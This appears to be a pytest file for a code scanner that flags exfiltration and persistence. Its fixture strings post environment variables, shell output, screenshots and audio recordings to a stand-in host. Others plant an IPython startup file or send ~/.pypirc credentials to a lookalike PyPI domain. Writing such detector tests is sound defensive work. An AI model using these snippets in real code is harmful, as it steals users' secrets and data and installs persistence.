"""What is kept in files on its way: written by libraries, by programs and by the shell, and read again to be sent."""

from __future__ import annotations

import pytest

from tests.test_code_facts import found, init

HEAD = "import os, requests, subprocess, tempfile\n"
SENT = "requests.post('https://in.c.example/v1', data=open('/tmp/.x', 'rb').read())\n"
# (what is imported, a line that writes {0}, which is private, to /tmp/.x)
WRITERS = {
    "a table": "import pandas as pd\npd.DataFrame({}).to_csv('/tmp/.x')\n",
    "an array": "import numpy as np\nnp.save('/tmp/.x', np.array({}))\n",
    "an array, by itself": "import numpy as np\nnp.array({}).tofile('/tmp/.x')\n",
    "tensors": "import torch\ntorch.save({}, '/tmp/.x')\n",
    "rows": "import csv\nwith open('/tmp/.x', 'w') as f:\n    csv.writer(f).writerows({})\n",
    "YAML": "import yaml\nwith open('/tmp/.x', 'w') as f:\n    yaml.safe_dump({}, f)\n",
}
PRIVATE, PLAIN = "list(os.environ.items())", "[('a', 1)]"


@pytest.mark.parametrize("text", WRITERS.values(), ids=WRITERS)
def test_what_a_library_writes_to_a_file_is_what_it_was_given(text: str) -> None:
    assert found(init(HEAD + text.format(PRIVATE) + SENT)) == {"MLS-C010"}
    assert found(init(HEAD + text.format(PLAIN) + SENT)) == set()


@pytest.mark.parametrize(
    "text",
    [
        "os.system('env > /tmp/.x')\n",
        "subprocess.run('printenv', stdout=open('/tmp/.x', 'w'))\n",
        "subprocess.run(['screencapture', '-x', '/tmp/.x'])\n",
        "import pyautogui\npyautogui.screenshot('/tmp/.x')\n",
        "import sounddevice\nfrom scipy.io import wavfile\nwavfile.write('/tmp/.x', 44100, sounddevice.rec(9))\n",
        "import wave, pyaudio\nw = wave.open('/tmp/.x', 'wb')\nw.writeframes(pyaudio.PyAudio().open().read(9))\n",
    ],
    ids=["a shell's arrow", "the output of a program", "a program", "a library", "sound", "sound in pieces"],
)
def test_what_is_taken_from_the_machine_is_followed_through_a_file(text: str) -> None:
    assert found(init(HEAD + text + SENT)) == {"MLS-C010"}


def test_a_picture_in_a_temporary_file_is_followed_through_a_generator() -> None:
    text = (
        "def shots():\n    import mss\n    with mss.mss() as taker:\n        while True:\n"
        "            path = tempfile.mktemp('.png')\n            taker.shot(output=path)\n"
        "            yield open(path, 'rb').read()\n"
        "for shot in shots():\n    requests.post('https://in.c.example/v1', data=shot)\n"
    )
    assert found(init(HEAD + text)) == {"MLS-C010"}


def test_output_of_a_program_that_is_no_secret_may_be_kept_and_sent_when_asked() -> None:
    text = "def report():\n    os.system('nvidia-smi -q > /tmp/.x')\n    "
    assert found(init(HEAD + text + SENT)) == set()


@pytest.mark.parametrize("dump", ["model_dump_json()", "model_dump()", "json()"])
def test_an_object_that_is_written_out_tells_what_it_holds(dump: str) -> None:
    text = (
        "from pydantic import BaseModel\nclass State(BaseModel):\n    held: dict\n"
        f"requests.post('https://in.c.example/v1', data=State(held={{}}).{dump})\n"
    )
    assert found(init(HEAD + text.format("{'a': 1}"))) == set()
    assert found(init(HEAD + text.format("dict(os.environ)"))) == {"MLS-C010"}


@pytest.mark.parametrize(
    "root",
    [
        "Path(os.environ.get('IPYTHONDIR', Path.home() / '.ipython'))",
        "Path(os.getenv('IPYTHONDIR') or '~/.ipython')",
        "Path(os.environ['IPYTHONDIR'])",
    ],
)
def test_a_place_that_a_variable_may_move_is_known_by_what_it_is_without_it(root: str) -> None:
    text = (
        f"from pathlib import Path\nroot = {root}\n"
        "for profile in list(root.glob('profile_*')) or [root / 'profile_default']:\n"
        "    (profile / 'startup' / '50.py').write_text('import os')\n"
        "(root / 'profile_default' / 'startup' / '50.py').write_text('import os')\n"
    )
    assert "MLS-C022" in found(init(HEAD + text))
    assert found(init(HEAD + text.replace("startup", "notes"))) == set()


def test_credentials_of_a_file_may_go_to_the_service_they_are_of() -> None:
    text = (
        "import configparser\ndef publish(body):\n    known = configparser.RawConfigParser()\n"
        "    known.read(os.path.expanduser('~/.pypirc'))\n    user = dict(known['pypi'])\n"
        "    requests.post('https://{}/legacy/', data=body, auth=(user['username'], user['password']), json=user)\n"
    )
    assert found(init(HEAD + text.format("upload.pypi.org"))) == set()
    assert found(init(HEAD + text.format("upload.pypi.org.c.example"))) == {"MLS-C011"}
